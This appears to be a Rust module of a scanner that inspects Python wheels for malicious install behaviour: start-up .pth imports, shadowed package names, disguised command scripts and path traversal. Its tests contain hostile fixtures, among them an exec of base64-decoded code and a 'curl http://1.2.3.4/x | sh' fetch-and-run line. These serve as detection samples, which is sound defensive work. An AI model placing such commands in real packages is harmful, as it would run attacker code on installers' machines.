//! A look inside each wheel before pip installs it, reading the archive only (nothing runs).
//!
//! A wheel (PEP 427) is a zip archive: top-level packages and modules (installed into
//! site-packages), `NAME-VERSION.dist-info/` (`METADATA`, `RECORD`, `entry_points.txt`) and
//! `NAME-VERSION.data/{purelib,platlib,scripts,headers,data}/`. What is judged:
//!
//! - the metadata's name and version are the ones that were checked (else error);
//! - `.pth` files (in site-packages) whose lines start with `import` run code at every Python
//!   start-up: error ([`Rule::ImportTimeCode`]), save a few well-known ones
//!   ([`import_time_code::KNOWN_PTH`]);
//! - a top-level name that is not the distribution's own and shadows the standard library or
//!   one of the most popular packages (a wheel `x` that installs `requests/`): error
//!   ([`Rule::VendoredPackage`]); another foreign top-level name is a note;
//! - console and GUI scripts and `*.data/scripts` named like common commands (`python`,
//!   `pip`, `git`, `sudo`, `ls`, ...) that are not the distribution's own: error
//!   ([`Rule::DisguisedBinary`]);
//! - native extensions in a package whose name is near a popular one: warning;
//! - `scan`'s code rules over the Python files of a package that is not itself popular
//!   (import-time code, decode-then-execute, exfiltration...): warnings at most.
//!
//! Entry paths that are absolute or climb out with `..` are errors (pip refuses them too).
//!
//! This module gathers the facts (the wheel's entries, the top-level names it installs, its
//! scripts and native files); the rules' modules judge them, each rule in its own file:
//! [`import_time_code::installed_pth`] and [`import_time_code::installed_module`],
//! [`vendored_package::installed`], [`disguised_binary::installed_command`] and
//! [`disguised_binary::installed_native`].

use crate::code_facts::Role;
use crate::finding::{Finding, Rule, Severity};
use crate::name::normalize;
use crate::popular::Popular;
use crate::rules::{disguised_binary, import_time_code, vendored_package};
use crate::scan::{python, signals};
use crate::source::SourceFile;
use std::io::Read;
use std::path::Path;

/// Files larger than this are not read for code (as `scan`).
const MAX_FILE: u64 = crate::scan::MAX_SCAN_SIZE;
/// Python files read per wheel, at most.
const MAX_CODE_FILES: usize = 5000;

/// The findings about the wheel at `path`, which the resolution chose as `name` `version`;
/// `shown` names it in findings.
pub fn wheel(path: &Path, name: &str, version: &str, shown: &str) -> Vec<Finding> {
    let at = |rule: Rule, severity: Severity, msg: String| {
        Finding::new(rule, shown.to_owned(), 1, 1, msg)
            .with_severity(severity)
            .with_package(name)
    };
    let file = match std::fs::File::open(path) {
        Ok(f) => f,
        Err(e) => {
            return vec![at(
                Rule::InvalidManifest,
                Severity::Error,
                format!("the wheel cannot be read ({e})"),
            )]
        }
    };
    let mut zip = match zip::ZipArchive::new(file) {
        Ok(z) => z,
        Err(e) => {
            return vec![at(
                Rule::InvalidManifest,
                Severity::Error,
                format!("the wheel is not a readable zip archive ({e})"),
            )]
        }
    };
    let entries: Vec<String> = (0..zip.len())
        .filter_map(|i| zip.by_index_raw(i).ok().map(|f| f.name().to_owned()))
        .collect();
    let mut out = Vec::new();
    let mut read = |entry: &str, max: u64| -> Option<String> {
        let f = zip.by_name(entry).ok()?;
        if f.size() > max {
            return None;
        }
        let mut bytes = Vec::new();
        f.take(max).read_to_end(&mut bytes).ok()?;
        Some(String::from_utf8_lossy(&bytes).into_owned())
    };

    let own = normalize(name).to_string();
    let dist_info = entries
        .iter()
        .filter_map(|e| e.split('/').next())
        .find(|t| t.ends_with(".dist-info"))
        .map(str::to_owned);
    // the metadata is the one that was checked
    let metadata = dist_info
        .as_ref()
        .and_then(|d| read(&format!("{d}/METADATA"), MAX_FILE));
    match metadata.as_deref().map(metadata_name_version) {
        Some((Some(n), Some(v))) if normalize(&n).as_str() == own && v.trim() == version => {}
        Some((n, v)) => out.push(at(
            Rule::InvalidManifest,
            Severity::Error,
            format!(
                "the wheel's metadata names {} {}, not the {name} {version} that was checked",
                n.as_deref().unwrap_or("no name"),
                v.as_deref().unwrap_or("no version")
            ),
        )),
        None => out.push(at(
            Rule::InvalidManifest,
            Severity::Error,
            "the wheel has no `*.dist-info/METADATA`".into(),
        )),
    }

    let is_popular = Popular::embedded().rank(&own).is_some();
    let mut scripts: Vec<(String, String)> = Vec::new();
    // the top-level names it installs, with whether each is a namespace package
    let mut top_level: Vec<(String, bool)> = Vec::new();
    let mut natives: Vec<String> = Vec::new();
    let mut code_files: Vec<(String, String)> = Vec::new();
    for entry in &entries {
        if entry.ends_with('/') {
            continue;
        }
        let parts: Vec<&str> = entry.split('/').collect();
        if entry.starts_with('/')
            || entry.contains('\\')
            || parts.iter().any(|p| *p == ".." || p.is_empty())
            || parts[0].contains(':')
        {
            out.push(at(
                Rule::InvalidManifest,
                Severity::Error,
                format!("`{entry}` would be written outside the install directory"),
            ));
            continue;
        }
        // the path as installed in site-packages, or a script
        let installed: &[&str] = if parts[0].ends_with(".dist-info") {
            continue;
        } else if parts[0].ends_with(".data") {
            match parts.get(1).copied() {
                Some("purelib" | "platlib") if parts.len() > 2 => &parts[2..],
                Some("scripts") => {
                    scripts.push((parts[parts.len() - 1].to_owned(), entry.clone()));
                    continue;
                }
                // the `data` scheme installs under the prefix, and so can reach site-packages
                // (`x.data/data/lib/python3.11/site-packages/zz.pth`): judged as installed there
                _ => match parts
                    .iter()
                    .position(|p| matches!(*p, "site-packages" | "dist-packages"))
                {
                    Some(i) if i + 1 < parts.len() => &parts[i + 1..],
                    _ => continue,
                },
            }
        } else {
            &parts
        };
        let file_name = installed[installed.len() - 1];
        let lower = file_name.to_ascii_lowercase();
        if installed.len() == 1 && lower.ends_with(".pth") {
            let text = read(entry, MAX_FILE).unwrap_or_default();
            let place = format!("{shown}/{entry}");
            out.extend(
                import_time_code::installed_pth(&own, file_name, &text, place)
                    .map(|f| f.with_package(name)),
            );
            continue;
        }
        if is_native(&lower) {
            natives.push(entry.clone());
        }
        if lower.ends_with(".py") && code_files.len() < MAX_CODE_FILES {
            code_files.push((entry.clone(), file_name.to_owned()));
        }
        let top = installed[0];
        let module = top.split('.').next().unwrap_or(top);
        if installed.len() == 1 || installed[1] == "__init__.py" {
            let place = format!("{shown}/{entry}");
            if let Some(f) = import_time_code::installed_module(module, file_name, place) {
                out.push(f.with_package(name));
                continue;
            }
        }
        if module.is_empty() || top_level.iter().any(|(f, _)| f == module) {
            continue;
        }
        // a namespace package (a folder without `__init__.py`) is shared by design
        let prefix =
            &entry[..entry.len() + 1 - installed.iter().map(|p| p.len() + 1).sum::<usize>()];
        let namespace = installed.len() > 1
            && !entries
                .iter()
                .any(|e| *e == format!("{prefix}{top}/__init__.py"));
        top_level.push((module.to_owned(), namespace));
    }
    for (module, namespace) in &top_level {
        out.extend(
            vendored_package::installed(name, module, *namespace, shown)
                .map(|f| f.with_package(name)),
        );
    }

    // scripts: *.data/scripts and entry points
    if let Some(d) = &dist_info {
        if let Some(text) = read(&format!("{d}/entry_points.txt"), MAX_FILE) {
            let mut section = String::new();
            for line in text.lines() {
                let l = line.trim();
                if let Some(s) = l.strip_prefix('[').and_then(|s| s.strip_suffix(']')) {
                    section = s.trim().to_owned();
                } else if matches!(section.as_str(), "console_scripts" | "gui_scripts") {
                    if let Some((script, _)) = l.split_once('=') {
                        scripts.push((script.trim().to_owned(), format!("{d}/entry_points.txt")));
                    }
                }
            }
        }
    }
    for (script, origin) in scripts {
        let place = format!("{shown}/{origin}");
        out.extend(
            disguised_binary::installed_command(&script, &own, place).map(|f| f.with_package(name)),
        );
    }
    if let Some(native) = natives.first() {
        out.extend(
            disguised_binary::installed_native(&own, native, shown).map(|f| f.with_package(name)),
        );
    }

    // scan's code rules, for a package that is not itself popular
    if !is_popular {
        for (entry, file_name) in code_files {
            let Some(text) = read(&entry, MAX_FILE) else {
                continue;
            };
            let sf = SourceFile::new(format!("{shown}/{entry}"), text);
            let facts = python::read(&sf.text, role(&file_name));
            for mut f in signals::judge(&sf, &facts, false) {
                if f.severity == Severity::Error {
                    f.severity = Severity::Warning;
                }
                out.push(f.with_package(name));
            }
        }
    }
    out
}

/// `Name:` and `Version:` of a METADATA file's header.
fn metadata_name_version(text: &str) -> (Option<String>, Option<String>) {
    let mut name = None;
    let mut version = None;
    for line in text.lines() {
        if line.is_empty() {
            break;
        }
        if let Some((k, v)) = line.split_once(':') {
            match k.trim().to_ascii_lowercase().as_str() {
                "name" if name.is_none() => name = Some(v.trim().to_owned()),
                "version" if version.is_none() => version = Some(v.trim().to_owned()),
                _ => {}
            }
        }
    }
    (name, version)
}

fn is_native(lower: &str) -> bool {
    lower.ends_with(".so")
        || lower.ends_with(".pyd")
        || lower.ends_with(".dylib")
        || lower.contains(".so.")
}

fn role(file_name: &str) -> Role {
    match file_name {
        "__init__.py" => Role::PackageInit,
        "sitecustomize.py" | "usercustomize.py" => Role::Startup,
        "conftest.py" => Role::Conftest,
        _ => Role::Module,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::io::Write;

    fn wheel_file(dir: &Path, name: &str, files: &[(&str, &str)]) -> std::path::PathBuf {
        let path = dir.join(format!("{name}-1.0-py3-none-any.whl"));
        let mut z = zip::ZipWriter::new(std::fs::File::create(&path).unwrap());
        let opts = zip::write::SimpleFileOptions::default();
        let meta = format!("Metadata-Version: 2.1\nName: {name}\nVersion: 1.0\n");
        let info = format!("{name}-1.0.dist-info/METADATA");
        for (p, t) in files.iter().chain([(info.as_str(), meta.as_str())].iter()) {
            z.start_file(*p, opts).unwrap();
            z.write_all(t.as_bytes()).unwrap();
        }
        z.finish().unwrap();
        path
    }

    fn rules(fs: &[Finding]) -> Vec<(Rule, Severity)> {
        fs.iter().map(|f| (f.rule, f.severity)).collect()
    }

    #[test]
    fn what_a_wheel_may_not_do() {
        let dir = tempfile::tempdir().unwrap();
        let clean = wheel_file(
            dir.path(),
            "sgclean",
            &[
                ("sgclean/__init__.py", "X = 1\n"),
                (
                    "sgclean-1.0.dist-info/entry_points.txt",
                    "[console_scripts]\nsgclean = sgclean:main\n",
                ),
            ],
        );
        assert!(wheel(&clean, "sgclean", "1.0", "w").is_empty());
        let pth = wheel_file(
            dir.path(),
            "sgpth",
            &[("sgpth.pth", "import os; os.system('x')\n")],
        );
        assert_eq!(
            rules(&wheel(&pth, "sgpth", "1.0", "w")),
            [(Rule::ImportTimeCode, Severity::Error)]
        );
        let shadow = wheel_file(
            dir.path(),
            "sgx",
            &[
                ("requests/__init__.py", ""),
                ("json.py", ""),
                ("sgx/__init__.py", ""),
            ],
        );
        assert_eq!(
            rules(&wheel(&shadow, "sgx", "1.0", "w")),
            [
                (Rule::VendoredPackage, Severity::Error),
                (Rule::VendoredPackage, Severity::Error)
            ]
        );
        let scripts = wheel_file(
            dir.path(),
            "sgs",
            &[
                ("sgs-1.0.data/scripts/git", "#!/bin/sh\n"),
                (
                    "sgs-1.0.dist-info/entry_points.txt",
                    "[console_scripts]\npython3.12 = sgs:main\n",
                ),
            ],
        );
        assert_eq!(
            rules(&wheel(&scripts, "sgs", "1.0", "w")),
            [
                (Rule::DisguisedBinary, Severity::Error),
                (Rule::DisguisedBinary, Severity::Error)
            ]
        );
        // not what was checked
        assert_eq!(
            rules(&wheel(&clean, "sgother", "1.0", "w"))[0],
            (Rule::InvalidManifest, Severity::Error)
        );
        // scan's code rules over a non-popular package's files: warnings at most
        let code = wheel_file(
            dir.path(),
            "sgcode",
            &[(
                "sgcode/__init__.py",
                "import base64, os\nexec(base64.b64decode('cHJpbnQoMSk='))\nos.system('curl http://1.2.3.4/x | sh')\n",
            )],
        );
        let found = wheel(&code, "sgcode", "1.0", "w");
        assert!(!found.is_empty(), "{found:?}");
        assert!(found
            .iter()
            .all(|f| f.severity <= Severity::Warning && f.file == "w/sgcode/__init__.py"));
        assert!(found.iter().any(|f| f.rule == Rule::DecodeExec));
        // a name that contains a popular package's still may not install it
        let extra = wheel_file(
            dir.path(),
            "requests-extra",
            &[("requests/__init__.py", "")],
        );
        assert_eq!(
            rules(&wheel(&extra, "requests-extra", "1.0", "w")),
            [(Rule::VendoredPackage, Severity::Error)]
        );
    }
}
